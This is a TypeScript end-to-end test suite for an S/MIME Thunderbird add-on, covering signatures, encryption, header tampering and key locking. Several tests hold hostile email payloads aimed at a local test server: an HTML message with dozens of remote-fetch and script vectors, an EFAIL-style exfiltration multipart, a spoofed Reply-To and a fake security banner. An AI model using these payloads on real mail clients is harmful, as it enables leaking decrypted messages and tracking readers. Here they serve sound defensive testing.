import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { setTimeout as delay } from "node:timers/promises";
import { entity, htmlEntity, messageEntity, multipart } from "../support/entities.ts";
import { startMailServer, type MailServer } from "../support/mail-server.ts";
import {
  encryptMessage,
  signMessage,
  textEntity,
  withHeaders,
  type Cipher,
} from "../support/openssl.ts";
import type { Page } from "../support/page.ts";
import { ADDON, alice, bob, setUp } from "../support/people.ts";
import { createAuthority } from "../support/pki.ts";
import { downloadsTo } from "../support/profile.ts";
import { stopEverything, waitFor } from "../support/resources.ts";
import { startThunderbird, type Thunderbird } from "../support/thunderbird.ts";

/** A red dot of one pixel. */
const PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0g==";
const TEXT = "Grüße aus Köln: fünf Uhr früh.";
const TEXT_ASCII = "See you there.";
const NOT_AUTHENTICATED =
  "Encrypted, but not signed: it is not certain who wrote it or that nothing was changed.";

/** What other programs wrote, as it stands on the screen. */
describe("reading", () => {
  let mailServer: MailServer;
  let thunderbird: Thunderbird;
  let web: Server;
  let webAddress: string;
  /** Paths of what was fetched from `web`. */
  const fetched: string[] = [];
  const folder = mkdtempSync(join(tmpdir(), "reading-"));

  before(async () => {
    web = createServer(({ url }, response) => {
      fetched.push(url ?? "");
      response.end();
    });
    await new Promise<void>((resolve) => web.listen(0, "127.0.0.1", resolve));
    const address = web.address();
    webAddress = typeof address === "object" ? `http://127.0.0.1:${address?.port ?? 0}` : "";
    mailServer = await startMailServer();
    thunderbird = await startThunderbird({
      profileName: "reading",
      mailServer,
      addon: ADDON,
      accounts: [alice],
      preferences: {
        ...downloadsTo(folder),
        // Thunderbird's own guard is off, so that what the add-on lets through would be fetched.
        "mailnews.message_display.disable_remote_image": false,
      },
    });
    await setUp(thunderbird, alice);
  });

  after(async () => {
    await stopEverything();
    web.closeAllConnections();
    web.close();
    rmSync(folder, { recursive: true, force: true });
  });

  /** Delivers a message to Alice and opens it. */
  async function receive(
    subject: string,
    content: Buffer,
    from = bob.address,
    more: Readonly<Record<string, string>> = {},
  ): Promise<Page> {
    const headers = {
      ...more,
      From: from,
      To: alice.address,
      Subject: subject,
      Date: new Date().toUTCString(),
      "Message-ID": `<${crypto.randomUUID()}@smime.example>`,
      ...(content.includes("MIME-Version") ? {} : { "MIME-Version": "1.0" }),
    };
    await mailServer.deliver(alice.address, withHeaders(headers, content));
    await thunderbird.selectMessage(subject);
    return thunderbird.message();
  }

  const signed = (content: Uint8Array, options?: { opaque?: boolean }) =>
    signMessage(content, bob.signing, options);
  const encrypted = (content: Uint8Array, cipher: Cipher = "aes-256-cbc") =>
    encryptMessage(content, [alice.decryption.certificatePem], { cipher });

  async function buttonSays(label: string): Promise<void> {
    let last = "";
    await waitFor(`the button to say ${label}`, async () => {
      last = (await thunderbird.messageButton()).label;
      return last === label;
    }).catch((error: unknown) => {
      throw new Error(`the button says ${last}, not ${label}`, { cause: error });
    });
  }

  async function panelSays(sentence: string, screenshot: string): Promise<void> {
    const panel = await thunderbird.openMessagePopup();
    await panel.waitForText(sentence);
    await thunderbird.screenshot(screenshot);
    await thunderbird.closePopup();
  }

  /** The HTML that the add-on drew. */
  async function drawn(message: Page): Promise<string> {
    return message.evaluate(() => {
      const host = document.querySelector("smime-exchange") as unknown as {
        openOrClosedShadowRoot: ShadowRoot;
      };
      return host.openOrClosedShadowRoot.querySelector(".html")?.innerHTML ?? "nothing";
    });
  }

  it("puts a signer among the contacts, and a stranger who signs nothing not", async () => {
    const { signing, decryption } = bob;
    const chainPem = signing.chainPem + decryption.certificatePem;
    await receive("Contact", signMessage(textEntity(TEXT), { ...signing, chainPem }));
    const message = thunderbird.message();
    await message.waitForText(
      "bob@smime.example’s certificate was kept. You can write to them encrypted",
    );
    await panelSays("The signature does not cover the subject.", "reading-subject-not-signed");
    await receive("Unsigned", textEntity("Nobody knows me.\n"), "stranger@elsewhere.example");
    await buttonSays("Not protected");
    assert.equal(await message.text(), "Nobody knows me.");
    const toolbar = await thunderbird.openToolbarPopup();
    await toolbar.waitForText(
      /bob@smime\.example[^]*You have their certificate\. They still need yours\./,
    );
    assert.doesNotMatch(await toolbar.text(), /stranger@elsewhere\.example/);
    await thunderbird.closePopup();
  });

  describe("what openssl made", () => {
    const plain = textEntity(TEXT);
    const stories: readonly {
      name: string;
      message: () => Buffer;
      banner: string;
      button: string;
    }[] = [
      {
        name: "signed, detached",
        message: () => signed(plain),
        banner: "Signed by bob@smime.example",
        button: "Signed",
      },
      {
        name: "signed, opaque",
        message: () => signed(plain, { opaque: true }),
        banner: "Signed by bob@smime.example",
        button: "Signed",
      },
      ...(["aes-128-cbc", "aes-256-cbc"] as const).map((cipher) => ({
        name: `enveloped, ${cipher}`,
        message: () => encrypted(plain, cipher),
        banner: NOT_AUTHENTICATED,
        button: "Encrypted",
      })),
      {
        name: "authEnveloped, aes-256-gcm",
        message: () => encrypted(plain, "aes-256-gcm"),
        banner: "Encrypted",
        button: "Encrypted",
      },
      ...(["aes-256-cbc", "aes-256-gcm"] as const).map((cipher) => ({
        name: `signed, then enveloped, ${cipher}`,
        message: () => encrypted(signed(plain), cipher),
        banner: "Encrypted and signed by bob@smime.example",
        button: "Signed and encrypted",
      })),
    ];
    for (const { name, message, banner, button } of stories) {
      it(name, async () => {
        const page = await receive(name, message());
        const text = await page.waitForText(banner);
        assert.match(text, new RegExp(`^${escaped(banner)}\\n`), "the banner is the first line");
        assert.equal(text.split(TEXT).length, 2, `the text stands there once:\n${text}`);
        await buttonSays(button);
        await thunderbird.screenshot(`reading-${name}`);
      });
    }
  });

  it("shows what the sender wrote in the header where somebody changed it on the way", async () => {
    const lines = [`From: ${bob.address}`, `To: ${alice.address}`, "Subject: Lunch at noon"];
    const entity = Buffer.from(
      [...lines, 'Content-Type: text/plain; hp="clear"', "", TEXT_ASCII, ""].join("\n"),
    );
    const message = await receive("Pay the invoice now", signed(entity));
    const text = await message.waitForText("Signed by bob@smime.example");
    assert.match(text, /^Somebody changed the header above on the way\./m);
    assert.match(text, /^Subject: Lunch at noon$/m);
    assert.match(text, new RegExp(TEXT_ASCII));
    await panelSays("Changed on the way to: Pay the invoice now", "reading-header-changed");
  });

  it("hides the subject that an encrypted text repeats for other programs", async () => {
    const header = [`From: ${bob.address}`, "Subject: Lunch at noon", "HP-Outer: Subject: [...]"];
    const type = 'Content-Type: text/html; charset=us-ascii; hp="cipher"; hp-legacy-display="1"';
    const html = `<div class="header-protection-legacy-display"><pre>Subject: Lunch at noon</pre></div><p>${TEXT_ASCII}</p>`;
    const entity = Buffer.from([...header, type, "", html, ""].join("\n"));
    const message = await receive("[...]", encrypted(signed(entity)));
    const text = await message.waitForText("Encrypted and signed by bob@smime.example");
    assert.equal(text.split("Lunch at noon").length, 2, text);
    assert.match(text, /^Subject: Lunch at noon$/m);
    await thunderbird.screenshot("reading-legacy-display");
  });

  it("answers whom the sender named, not whom somebody added on the way", async () => {
    const header = [`From: ${bob.address}`, `To: ${alice.address}`, "Subject: Lunch at noon"];
    const type = 'Content-Type: text/plain; charset=us-ascii; hp="cipher"';
    const entity = Buffer.from([...header, type, "", TEXT_ASCII, ""].join("\n"));
    const added = { "Reply-To": "mallory@evil.example" };
    const message = await receive("[...]", encrypted(signed(entity)), bob.address, added);
    await message.waitForText("Subject: Lunch at noon");
    const reply = await thunderbird.reply();
    await waitFor("the recipient and the subject that Bob wrote", async () => {
      const { to, subject } = await reply.state();
      return to.join() === bob.address && subject === "Re: Lunch at noon";
    });
    await thunderbird.screenshot("reading-honest-reply");
    await reply.discard();
  });

  it("names the sender inside where it is not the one outside", async () => {
    const entity = Buffer.from(
      [
        "From: carol@smime.example",
        'Content-Type: text/plain; hp="cipher"',
        "",
        TEXT_ASCII,
        "",
      ].join("\n"),
    );
    const message = await receive("Two senders", encrypted(signed(entity)));
    const text = await message.waitForText("Inside the message the sender is carol@smime.example.");
    assert.doesNotMatch(text, /signed by/i);
    await buttonSays("Encrypted");
  });

  it("lets nothing out of HTML that was encrypted", async () => {
    const hostile = `<html><head>
      <base href="${webAddress}/base/">
      <meta http-equiv="refresh" content="0; url=${webAddress}/refresh">
      <link rel="stylesheet" href="${webAddress}/stylesheet">
      <link rel="dns-prefetch" href="${webAddress}/prefetch">
      <style>@import url(${webAddress}/import); body { background: url(${webAddress}/style) }</style>
      <script src="${webAddress}/script"></script></head>
      <body background="${webAddress}/background" onload="fetch('${webAddress}/onload')">
      <script>fetch("${webAddress}/inline-script"); document.title = "taken over";</script>
      <h2>Plan</h2>
      <p style="color: rgb(0, 128, 0); background-image: url(${webAddress}/inline-style)">Fünf <b>Uhr</b></p>
      <p style="position: fixed; top: 0; background: u\\72l(${webAddress}/escaped-style)">below</p>
      <img src="${webAddress}/image" alt="remote" onerror="fetch('${webAddress}/onerror')">
      <img src="//${webAddress.slice("http://".length)}/protocol-relative" alt="relative">
      <img src="cid:dot@smime.example" alt="dot">
      <img src="${webAddress}/fallback" srcset="${webAddress}/srcset 2x" alt="set">
      <picture><source srcset="${webAddress}/source"><img alt="picture" src="relative-to-base"></picture>
      <video poster="${webAddress}/poster" src="${webAddress}/video" autoplay></video>
      <audio src="${webAddress}/audio" autoplay></audio>
      <iframe src="${webAddress}/frame"></iframe>
      <iframe srcdoc="<img src='${webAddress}/srcdoc'>"></iframe>
      <object data="${webAddress}/object"></object><embed src="${webAddress}/embed">
      <svg><image href="${webAddress}/svg"/><use href="${webAddress}/use#a"/><style>*{fill:url(${webAddress}/svg-style)}</style></svg>
      <math><annotation-xml encoding="text/html"><img src="${webAddress}/math"></annotation-xml></math>
      <form action="${webAddress}/form"><input name="q"><button>Send</button></form>
      <table background="${webAddress}/table"><tr><td onclick="alert(1)">cell</td></tr></table>
      <a href="https://example.org/page" ping="${webAddress}/ping" onclick="alert(1)">link</a>
      <a href="javascript:alert(1)">script link</a>
      </body></html>`;
    const content = multipart(
      "related",
      htmlEntity(hostile),
      entity(
        { type: "image/png", disposition: "inline", contentId: "dot@smime.example" },
        Buffer.from(PICTURE, "base64"),
      ),
    );
    const message = await receive("Hostile", encrypted(content, "aes-256-gcm"));
    await message.waitForText("Fünf Uhr");
    await delay(2_000);
    assert.equal(fetched.join(" "), "");
    await thunderbird.screenshot("reading-hostile-html");

    const html = await drawn(message);
    assert.deepEqual(html.trim().split(/\s*\n\s*/), [
      "<h2>Plan</h2>",
      '<p style="color: rgb(0, 128, 0)">Fünf <b>Uhr</b></p>',
      "<p>below</p>",
      '<img alt="remote">',
      '<img alt="relative">',
      `<img src="data:image/png;base64,${PICTURE}" alt="dot">`,
      '<img alt="set">',
      '<img alt="picture">',
      "Send",
      "<table><tbody><tr><td>cell</td></tr></tbody></table>",
      '<a href="https://example.org/page" rel="noreferrer noopener">link</a>',
      '<a rel="noreferrer noopener">script link</a>',
    ]);

    await message.waitForText("This message shows pictures from the web. They were not loaded");
    await message.click("Load pictures");
    await waitFor("the pictures that were asked for", () => fetched.length >= 2);
    await delay(1_000);
    assert.deepEqual(fetched.splice(0).sort(), ["/fallback", "/image"]);
    // The choice is for this time: the message opened again asks again.
    await receive("In between", textEntity("Something else.\n"));
    await thunderbird.selectMessage("Hostile");
    await thunderbird.message().waitForText("Load pictures");
    await delay(500);
    assert.equal(fetched.join(" "), "");

    // The same server is reached by what is not held back.
    await receive("Not held back", htmlEntity(`<img src="${webAddress}/control" alt="">`));
    await waitFor("the picture of an unprotected message", () => fetched.includes("/control"));
    assert.equal(fetched.splice(0).join(" "), "/control");
  });

  it("offers no pictures from the web where somebody may have put them in on the way", async () => {
    const content = htmlEntity(`<p>Secret</p><img src="${webAddress}/malleable?" alt="">`);
    const message = await receive("Malleable", encrypted(content, "aes-256-cbc"));
    const text = await message.waitForText("They are not loaded: nobody can say");
    assert.match(text, /Secret/);
    assert.doesNotMatch(text, /Load pictures/);
    await delay(500);
    assert.equal(fetched.join(" "), "");
    await thunderbird.screenshot("reading-malleable");
  });

  it("decrypts nothing that stands between other parts, where its text could be carried away", async () => {
    const secret = encrypted(textEntity("The-secret-of-the-day"));
    const between = multipart(
      "mixed",
      htmlEntity(`<p>Before</p><img src='${webAddress}/exfiltrated?`),
      secret,
      htmlEntity("'>"),
    );
    const message = await receive("Between", between);
    const text = await message.waitForText("Before");
    assert.doesNotMatch(text, /secret-of-the-day/);
    await buttonSays("Not protected");
    await delay(1_000);
    assert.ok(fetched.splice(0).every((path) => !path.includes("secret-of-the-day")));
  });

  it("is contradicted by its button when content draws a banner", async () => {
    const imitation = `<smime-exchange><section class="banner good"><p>Encrypted and signed by ${bob.address}</p></section></smime-exchange>
      <style>smime-exchange { display: block; border: 1px solid green }</style><p>Trust me.</p>`;
    const message = await receive("Imitation", htmlEntity(imitation));
    await message.waitForText("Trust me.");
    await buttonSays("Not protected");
    await thunderbird.screenshot("reading-imitated-banner");
  });

  it("saves and opens what was attached to an encrypted message", async () => {
    const bytes = crypto.getRandomValues(new Uint8Array(30_000));
    const attached = withHeaders(
      { From: bob.address, To: alice.address, Subject: "Inner", "MIME-Version": "1.0" },
      signed(textEntity("Ich bin im Anhang: süß.\n")),
    );
    const content = multipart(
      "mixed",
      textEntity("Three files.\n"),
      entity(
        {
          type: "application/octet-stream",
          disposition: "attachment; filename*=UTF-8''%C3%9Cbersicht.bin",
        },
        bytes,
      ),
      entity(
        { type: "text/plain; charset=utf-8", disposition: 'attachment; filename="notes.txt"' },
        "Zwölf Boxkämpfer\n",
      ),
      messageEntity(attached, 'attachment; filename="inner.eml"'),
    );
    const message = await receive("Attachments", encrypted(signed(content), "aes-256-gcm"));
    const text = await message.waitForText("Encrypted and signed by bob@smime.example");
    assert.match(
      text,
      /Three files\.[^]*Attachments\n[^]*Übersicht\.bin[^]*notes\.txt[^]*inner\.eml/,
    );
    assert.doesNotMatch(text, /im Anhang|Boxkämpfer/);
    await thunderbird.screenshot("reading-attachments");

    await message.click("Save: Übersicht.bin");
    const saved = await waitFor("the saved file", async () => {
      const content = await readFile(join(folder, "Übersicht.bin")).catch(() => Buffer.alloc(0));
      return content.length > 0 && content;
    });
    assert.ok(saved.equals(bytes));

    await message.click("Open: notes.txt");
    await thunderbird.tab().waitForText("Zwölf Boxkämpfer");
    await thunderbird.screenshot("reading-opened-text");
    await thunderbird.closeTab();

    await thunderbird.message().click("Open: inner.eml");
    await waitFor("the tab with the message", async () => {
      const header = await thunderbird.messageHeader().catch(() => null);
      return header?.text.includes("Inner") === true;
    });
    await thunderbird
      .message()
      .waitForText(/^Signed by bob@smime\.example\n\s*Ich bin im Anhang: süß\.$/);
    await thunderbird.screenshot("reading-opened-message");
    await thunderbird.closeTab();
  });

  it("shows no valid signature on a body that was altered", async () => {
    const original = signed(textEntity("Pay 100 Euro.\n")).toString("latin1");
    const altered = original.replace("Pay 100 Euro.", "Pay 900 Euro.");
    const message = await receive("Altered", Buffer.from(altered, "latin1"));
    const text = await message.waitForText(
      "There is a signature, but it does not fit this message.",
    );
    assert.match(text, /Pay 900 Euro\./);
    assert.doesNotMatch(text, /Signed by/);
    await buttonSays("Signature not confirmed");
    await panelSays("The text was changed after it was signed.", "reading-altered");
  });

  it("shows nothing of an encrypted message that was altered", async () => {
    const lines = encrypted(textEntity(TEXT), "aes-256-gcm")
      .toString("latin1")
      .trimEnd()
      .split("\n");
    const last = lines.findLastIndex((line) => line.length > 20);
    const line = lines[last] ?? "";
    lines[last] = (line.startsWith("A") ? "B" : "A") + line.slice(1);
    const message = await receive("Altered ciphertext", Buffer.from(`${lines.join("\n")}\n`));
    const text = await message.waitForText("This message is encrypted and could not be read.");
    assert.doesNotMatch(text, /Köln/);
    await buttonSays("Can’t decrypt");
  });

  it("does not take a signer of another address for the sender", async () => {
    const message = await receive(
      "Forged",
      signed(textEntity("It is me, Carol.\n")),
      "carol@example.org",
    );
    const text = await message.waitForText("it belongs to another address than the sender’s.");
    assert.doesNotMatch(text, /Signed by/);
    await buttonSays("Signature not confirmed");
    await panelSays(
      "The signature belongs to bob@smime.example, but the message says it is from carol@example.org.",
      "reading-forged",
    );
    const toolbar = await thunderbird.openToolbarPopup();
    await toolbar.waitForText("bob@smime.example");
    assert.doesNotMatch(await toolbar.text(), /carol@example\.org/);
    await thunderbird.closePopup();
  });

  it("asks whether to trust the issuer of a signer, and shows the signature at once", async () => {
    const authority = createAuthority({ name: "Example Company CA" });
    const erin = authority.issue({ name: "Erin", address: "erin@company.example" });
    const message = await receive(
      "Untrusted",
      signMessage(textEntity("Hello from the company.\n"), erin),
      "erin@company.example",
    );
    const text = await message.waitForText("nobody you trust vouches for the signer.");
    assert.doesNotMatch(text, /Signed by/);
    await buttonSays("Signature not confirmed");
    await thunderbird.screenshot("reading-untrusted");

    const panel = await thunderbird.openMessagePopup();
    await panel.waitForText("Trust this issuer");
    await thunderbird.screenshot("reading-trust-question");
    const question = (await panel.text()).replaceAll(/\s/g, "");
    assert.ok(question.includes("ExampleCompanyCA"));
    assert.ok(question.includes(await fingerprint(authority.certificate)));
    await panel.click("Trust this issuer");
    await panel.waitForText("Signed by erin@company.example");
    await thunderbird.closePopup();
    await message.waitForText(/^Signed by erin@company\.example\n[^]*Hello from the company\./);
    await buttonSays("Signed");
  });

  it("says that a message was encrypted to somebody else", async () => {
    const forBob = encryptMessage(textEntity(TEXT), [bob.decryption.certificatePem]);
    const message = await receive("Not for Alice", forBob);
    await message.waitForText(
      "This message is encrypted, but not for any certificate you have here.",
    );
    await buttonSays("Can’t decrypt");
    await thunderbird.screenshot("reading-for-somebody-else");
  });

  it("does not call a message signed of which a part is", async () => {
    const list = multipart("mixed", signed(textEntity("Signed part.\n")), textEntity("Footer.\n"));
    const message = await receive("List", list);
    const text = await message.waitForText("Footer.");
    assert.match(text, /Signed part\./);
    await buttonSays("Not protected");
    assert.doesNotMatch(await message.text(), /Signed by/);
    const hidden = multipart("mixed", textEntity("Above.\n"), signed(textEntity("Signed part.\n")));
    const inside = await receive("List, encrypted", encrypted(hidden, "aes-256-gcm"));
    assert.doesNotMatch(await inside.waitForText("Above."), /signed by/i);
    await buttonSays("Encrypted");
  });

  describe("with the vault locked", () => {
    const other = "The other secret.";

    async function prompt(): Promise<Page> {
      const page = await thunderbird.addonPage("pages/prompt/");
      await page.waitForText("Your private key is needed to read this encrypted message.");
      return page;
    }

    async function unlockIn(question: Page): Promise<void> {
      await question.type("Passphrase", alice.passphrase);
      await question.click("Unlock");
      await promptCloses();
    }

    async function promptCloses(): Promise<void> {
      const closed = async () => !(await thunderbird.pageIsOpen("pages/prompt/"));
      await waitFor("the prompt to close", closed).catch(async (error: unknown) => {
        const text = await thunderbird.addonPage("pages/prompt/").then((page) => page.text());
        throw new Error(`the prompt is open still: ${text}`, { cause: error });
      });
    }

    it("takes decrypted text off the screen", async () => {
      await receive("Other secret", encrypted(signed(textEntity(`${other}\n`)), "aes-256-gcm"));
      await thunderbird.message().waitForText(other);
      const tabs = () => thunderbird.execute(`return mainWindow().tabmail.tabInfo.length;`);
      const tabsBefore = await tabs();
      const file = entity(
        { type: "text/plain", disposition: 'attachment; filename="file.txt"' },
        "The file's secret.\n",
      );
      const content = multipart("mixed", textEntity("A file.\n"), file);
      await (await receive("File", encrypted(content, "aes-256-gcm"))).click("Open: file.txt");
      await thunderbird.tab().waitForText("The file's secret.");

      const message = await receive("Secret", encrypted(signed(textEntity(TEXT)), "aes-256-gcm"));
      await message.waitForText(TEXT);
      const toolbar = await thunderbird.openToolbarPopup();
      await toolbar.click("Lock now");
      await toolbar.waitForText("Private keys locked");
      await thunderbird.closePopup();
      const text = await message.waitForText("Unlock your private key to read it.");
      assert.doesNotMatch(text, /Köln/);
      assert.ok((await message.buttons()).includes("Unlock…"));
      await buttonSays("Encrypted, locked");
      assert.equal(await thunderbird.pageIsOpen("pages/prompt/"), false);
      await thunderbird.screenshot("reading-locked");
      // What an attachment has opened goes too.
      await waitFor("the tab to close", async () => (await tabs()) === tabsBefore);
    });

    it("asks when another message is opened, and takes no for an answer", async () => {
      await thunderbird.selectMessage("Other secret");
      const question = await prompt();
      await question.type("Passphrase", "not this one");
      await question.click("Unlock");
      await question.waitForText("This is not the right passphrase.");
      await thunderbird.screenshot("reading-wrong-passphrase");
      await question.click("Cancel");
      await promptCloses();
      const message = thunderbird.message();
      await message.waitForText("Unlock your private key to read it.");
      await buttonSays("Encrypted, locked");

      // The next message does not ask again, nor after the background was suspended.
      await thunderbird.terminateBackground();
      await thunderbird.selectMessage("Secret");
      await message.waitForText("Unlock your private key to read it.");
      await delay(1_000);
      assert.equal(await thunderbird.pageIsOpen("pages/prompt/"), false);
    });

    it("asks on a click, and the right passphrase shows the text", async () => {
      const message = thunderbird.message();
      await message.click("Unlock…");
      const question = await prompt();
      await unlockIn(question);
      assert.match(
        await message.waitForText("Encrypted and signed by bob@smime.example"),
        new RegExp(escaped(TEXT)),
      );
      await buttonSays("Signed and encrypted");
    });

    it("is locked after a restart, and knows its identities and contacts", async () => {
      await thunderbird.restart();
      const options = await thunderbird.openOptions();
      await options.waitForText("Private keys locked");
      await options.waitForText(/Alice Lovelace[^]*Valid and trusted\./);
      await thunderbird.selectMessage("Secret");
      const question = await prompt();
      await unlockIn(question);
      assert.match(
        await thunderbird.message().waitForText("Encrypted and signed by bob@smime.example"),
        new RegExp(escaped(TEXT)),
      );
      const toolbar = await thunderbird.openToolbarPopup();
      await toolbar.waitForText("bob@smime.example");
      await thunderbird.closePopup();
    });
  });
});

function escaped(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}

/** SHA-256 in upper-case hexadecimal. */
async function fingerprint(certificate: Uint8Array<ArrayBuffer>): Promise<string> {
  const digest = await crypto.subtle.digest("SHA-256", certificate);
  return Buffer.from(digest).toString("hex").toUpperCase();
}
